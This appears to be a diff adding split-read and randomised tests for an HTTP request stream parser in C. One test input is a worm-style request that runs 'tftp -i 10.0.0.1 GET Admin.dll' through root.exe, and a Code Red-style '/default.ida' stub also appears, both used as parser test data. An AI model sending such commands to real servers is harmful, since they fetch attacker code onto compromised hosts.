@@ -490,16 +490,240 @@ static void test_http_parser(void)
 	struct http_request req;
 	CHECK(http_parse_request(full, n, &req) == (int64_t)n && req.content_length == 5,
 	    "content length");
+}
 
-	/* The head finder, fed a byte at a time, finds the same end. */
-	size_t hint = 0, found = 0;
-	for (size_t k = 1; k <= n && !found; k++)
-		found = http_find_head_end(full, k, &hint);
-	CHECK(found == n, "head end %zu want %zu", found, n);
-	hint = 0;
-	CHECK(http_find_head_end("\r\n\r\nGET / HTTP/1.0\n\n", 20, &hint) == 20, "leading blank lines");
-	hint = 0;
-	CHECK(http_find_head_end("GET / HTTP/1.0\r\nA: b\r\n", 22, &hint) == 0, "no end yet");
+/* ---- HTTP tracking across reads ------------------------------------- */
+
+#define TRACK_KEEP 8                 /* requests compared per input */
+#define TRACK_OK 0
+#define TRACK_PARTIAL 1
+#define TRACK_UNPARSED 2
+
+struct track_result {
+	int n;                       /* requests found */
+	struct {
+		size_t at;
+		int64_t len;
+		struct http_request req;
+		uint64_t body;
+	} r[TRACK_KEEP];
+	int state;                   /* TRACK_OK, TRACK_PARTIAL, TRACK_UNPARSED */
+};
+
+/* Feeds text[0..len) to a stream tracker as a session does: the buffer
+ * grows (to exactly the bytes received, so ASan sees any over-read) at each
+ * of the ncuts cut points, then to len; after each growth the tracker is
+ * asked until it has no complete request left. */
+static void track(const char *text, size_t len, const size_t *cuts, size_t ncuts,
+    size_t head_max, struct track_result *out)
+{
+	struct http_stream st = {0};
+	char *buf = NULL;
+	size_t have = 0;
+
+	memset(out, 0, sizeof(*out));
+	for (size_t c = 0; c <= ncuts; c++) {
+		size_t upto = c < ncuts ? cuts[c] : len;
+		if (upto < have)
+			continue;
+		char *grown = realloc(buf, upto ? upto : 1);
+		if (!grown)
+			abort();
+		buf = grown;
+		memcpy(buf + have, text + have, upto - have);
+		have = upto;
+		for (;;) {
+			struct http_request req;
+			size_t at = 0;
+			uint64_t body = 0;
+			int64_t rc = http_stream_next(&st, buf, have, head_max, &req, &at, &body);
+			if (body && out->n && out->n <= TRACK_KEEP)
+				out->r[out->n - 1].body += body;
+			if (rc <= 0)
+				break;
+			if (out->n < TRACK_KEEP) {
+				out->r[out->n].at = at;
+				out->r[out->n].len = rc;
+				out->r[out->n].req = req;
+			}
+			out->n++;
+		}
+	}
+	out->state = st.invalid ? TRACK_UNPARSED
+	    : http_stream_complete(&st, len) ? TRACK_OK : TRACK_PARTIAL;
+	free(buf);
+}
+
+static bool span_eq(struct http_span a, struct http_span b)
+{
+	return a.off == b.off && a.len == b.len;
+}
+
+static bool track_eq(const struct track_result *a, const struct track_result *b)
+{
+	if (a->n != b->n || a->state != b->state)
+		return false;
+	for (int i = 0; i < a->n && i < TRACK_KEEP; i++) {
+		const struct http_request *x = &a->r[i].req, *y = &b->r[i].req;
+		if (a->r[i].at != b->r[i].at || a->r[i].len != b->r[i].len ||
+		    a->r[i].body != b->r[i].body || !span_eq(x->method, y->method) ||
+		    !span_eq(x->target, y->target) || !span_eq(x->version, y->version) ||
+		    !span_eq(x->headers, y->headers) || !span_eq(x->host, y->host) ||
+		    !span_eq(x->user_agent, y->user_agent) ||
+		    x->content_length != y->content_length || x->chunked != y->chunked ||
+		    x->keep_alive != y->keep_alive || x->head_only != y->head_only)
+			return false;
+	}
+	return true;
+}
+
+/* Every split of text in two, and a byte-by-byte feed, give the one-shot
+ * result. Returns the number of feeds that differed. */
+static int track_splits_differ(const char *text, size_t len, size_t head_max,
+    struct track_result *whole)
+{
+	struct track_result part;
+	size_t *cuts = malloc((len + 1) * sizeof(*cuts));
+	int bad = 0;
+
+	track(text, len, NULL, 0, head_max, whole);
+	for (size_t k = 0; k <= len; k++) {
+		track(text, len, &k, 1, head_max, &part);
+		bad += !track_eq(whole, &part);
+		cuts[k] = k;
+	}
+	track(text, len, cuts, len + 1, head_max, &part);
+	bad += !track_eq(whole, &part);
+	free(cuts);
+	return bad;
+}
+
+/* A number below n from a fixed-seed generator (Knuth's MMIX LCG). */
+static size_t lcg_below(uint64_t *seed, size_t n)
+{
+	*seed = *seed * 6364136223846793005ULL + 1442695040888963407ULL;
+	return (size_t)((*seed >> 33) % n);
+}
+
+static void test_http_splits(void)
+{
+	static const struct {
+		const char *text;
+		size_t len;          /* 0: strlen */
+		int nreq, state;     /* the one-shot result */
+		uint64_t body;       /* body bytes of the first request */
+	} cases[] = {
+		{"GET / HTTP/1.0\r\n\r\n", 0, 1, TRACK_OK, 0},
+		{"\n\n\nGET /split HTTP/1.0\r\n\r\n", 0, 1, TRACK_OK, 0},   /* the issue's */
+		{"\r\n\r\nHEAD /x HTTP/1.1\r\nUser-Agent: z\r\n\r\n", 0, 1, TRACK_OK, 0},
+		{"\r\r\r\nGET / HTTP/1.0\n\n", 0, 1, TRACK_OK, 0},
+		{"\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nGET / HTTP/1.0\n\n", 0, 1, TRACK_OK, 0},
+		{"\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nGET / HTTP/1.0\n\n", 0, 0, TRACK_UNPARSED, 0},
+		{"\n", 0, 0, TRACK_PARTIAL, 0},
+		{"GET /path\r\n", 0, 1, TRACK_OK, 0},
+		{"GET /path\r\n\r\n", 0, 1, TRACK_PARTIAL, 0},
+		{"GET / HTTP/1.0\n\r\n", 0, 1, TRACK_OK, 0},
+		{"GET / HTTP/1.0\r\nA: b\r\n\rX\r\n\r\n", 0, 1, TRACK_OK, 0},
+		{"GET / HTTP/1.1\r\nHost: a\r\n X-Folded: y\r\nUser-Agent: u\r\n\r\n", 0, 1, TRACK_OK, 0},
+		{"GET /scripts/root.exe?/c+tftp -i 10.0.0.1 GET Admin.dll Admin.dll HTTP/1.0\r\n\r\n",
+		 0, 1, TRACK_OK, 0},
+		{"POST /p HTTP/1.1\r\nContent-Length: 4\r\n\r\nabcdGET /q HTTP/1.0\r\n\r\n", 0, 2, TRACK_OK, 4},
+		{"POST /p HTTP/1.1\r\nContent-Length: 10\r\n\r\nabcd", 0, 1, TRACK_PARTIAL, 4},
+		{"POST / HTTP/1.0\r\nContent-Length: 2\r\n\r\nab\r\nGET / HTTP/1.0\r\n\r\n", 0, 2, TRACK_OK, 2},
+		{"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n", 0, 1, TRACK_OK, 0},
+		{"GET /a HTTP/1.1\r\nHost: x\r\n\r\nGET /b HTTP/1.1\r\nHost: x\r\n\r\nGET /c HTTP/1.1\r\n\r\n",
+		 0, 3, TRACK_OK, 0},
+		{"GET / HTTP/1.0\r\n\r\nSSH-2.0-x\r\n", 0, 1, TRACK_UNPARSED, 0},
+		{"GET / HTTP/1.1\r\nHost: a\r\n", 0, 0, TRACK_PARTIAL, 0},
+		{"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 0, 0, TRACK_UNPARSED, 0},
+		{"GET / XTTP/1.0\r\n\r\n", 0, 0, TRACK_UNPARSED, 0},
+		{"GET\n\n", 0, 0, TRACK_UNPARSED, 0},
+		{"GET \n\n", 0, 0, TRACK_UNPARSED, 0},
+		{"ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEF / HTTP/1.0\r\n\r\n", 0, 1, TRACK_OK, 0},
+		{"ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEFG / HTTP/1.0\r\n\r\n", 0, 0, TRACK_UNPARSED, 0},
+		{"GET /\0x HTTP/1.0\r\n\r\n", 20, 1, TRACK_OK, 0},
+		{"\r\nGET /a HTTP/1.0\r\n\r\n\r\n\r\nGET /b HTTP/1.0\r\n\r\n", 0, 2, TRACK_OK, 0},
+	};
+	struct track_result whole;
+	int bad;
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		const char *t = cases[i].text;
+		size_t len = cases[i].len ? cases[i].len : strlen(t);
+		bad = track_splits_differ(t, len, 256 * 1024, &whole);
+		CHECK(bad == 0, "split case %zu: %d feeds differ from one write", i, bad);
+		CHECK(whole.n == cases[i].nreq && whole.state == cases[i].state,
+		    "split case %zu: %d requests, state %d", i, whole.n, whole.state);
+		CHECK(whole.n == 0 || whole.r[0].body == cases[i].body,
+		    "split case %zu: body %llu", i, (unsigned long long)whole.r[0].body);
+		/* A cap on the head's length is decided the same way. */
+		for (size_t cap = 8; cap <= 64; cap += 8) {
+			bad = track_splits_differ(t, len, cap, &whole);
+			CHECK(bad == 0, "split case %zu, head cap %zu: %d feeds differ", i, cap, bad);
+		}
+	}
+	/* The head cap: a head of exactly the cap is a request, one byte more
+	 * is not, however the bytes come. */
+	const char *capped = "GET / HTTP/1.0\r\n\r\n";
+	track_splits_differ(capped, 18, 18, &whole);
+	CHECK(whole.n == 1 && whole.state == TRACK_OK, "a head of the cap's length");
+	track_splits_differ(capped, 18, 17, &whole);
+	CHECK(whole.n == 0 && whole.state == TRACK_UNPARSED, "a head over the cap");
+
+	/* Randomised requests (leading blank lines, both line ends, bodies,
+	 * pipelining, a damaged byte now and then), fixed seed. */
+	static const char *const leads[] = {"", "", "\r\n", "\n", "\r\n\r\n", "\n\n\n"};
+	static const char *const methods[] = {"GET", "POST", "HEAD", "G(T", "PROPFIND"};
+	static const char *const targets[] = {"/", "/x?a=b c", "/default.ida?NNNN"};
+	static const char *const versions[] = {" HTTP/1.0", " HTTP/1.1", " HTTP/1.1", "",
+	    " XTTP/1.0"};
+	static const char *const eols[] = {"\r\n", "\n"};
+	static const char *const headers[] = {"Host: h", "Content-Length: 3",
+	    "Connection: close", " folded", "User-Agent: u", "X"};
+	uint64_t seed = 0x7f1a9e3b5c2d4e6fULL;
+#define RANDOM(n) lcg_below(&seed, n)
+#define PICK(a) a[RANDOM(sizeof(a) / sizeof(a[0]))]
+#define PUT(str) do { const char *s_ = (str); size_t l_ = strlen(s_); \
+	if (len + l_ < sizeof(text)) { memcpy(text + len, s_, l_); len += l_; } } while (0)
+	int differing = 0, inputs = 0, requests = 0;
+	for (int i = 0; i < 200; i++) {
+		char text[512];
+		size_t len = 0;
+		for (size_t r = 0, nr = 1 + RANDOM(3); r < nr; r++) {
+			const char *eol = PICK(eols), *version = PICK(versions);
+			bool body = false;
+			PUT(PICK(leads));
+			PUT(PICK(methods));
+			PUT(" ");
+			PUT(PICK(targets));
+			PUT(version);
+			PUT(eol);
+			if (!*version)
+				continue;
+			for (size_t h = 0, nh = RANDOM(4); h < nh; h++) {
+				const char *line = PICK(headers);
+				body |= line[0] == 'C' && line[1] == 'o' && line[2] == 'n' && line[3] == 't';
+				PUT(line);
+				PUT(eol);
+			}
+			PUT(eol);
+			if (body)
+				PUT("abc");
+		}
+		if (RANDOM(8) == 0 && len) {
+			size_t at = RANDOM(len);
+			text[at] = "\r\n \0x"[RANDOM(5)];
+		}
+		differing += track_splits_differ(text, len, 256 * 1024, &whole) != 0;
+		requests += whole.n;
+		inputs++;
+	}
+#undef RANDOM
+#undef PICK
+#undef PUT
+	CHECK(differing == 0, "%d of %d random inputs read differently when split", differing,
+	    inputs);
+	CHECK(requests > 50, "the random inputs held only %d requests", requests);
 }
 
 static void test_ident_parser(void)
@@ -675,6 +899,7 @@ int main(void)
 	test_jsonl_format();
 	test_timeouts();
 	test_http_parser();
+	test_http_splits();
 	test_ident_parser();
 	test_ident_limiter();
 	test_experiment_assignment();
